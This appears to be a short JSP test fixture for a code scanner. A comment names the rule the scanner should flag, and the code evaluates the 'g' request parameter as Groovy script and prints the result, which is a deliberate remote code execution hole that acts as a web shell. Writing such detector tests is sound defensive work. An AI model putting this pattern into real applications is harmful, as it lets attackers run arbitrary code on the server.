<%-- expect rule=jsp.eval-input min=85 --%>
<%
    groovy.lang.GroovyShell gs = new groovy.lang.GroovyShell();
    out.print(gs.evaluate(request.getParameter("g")));
%>
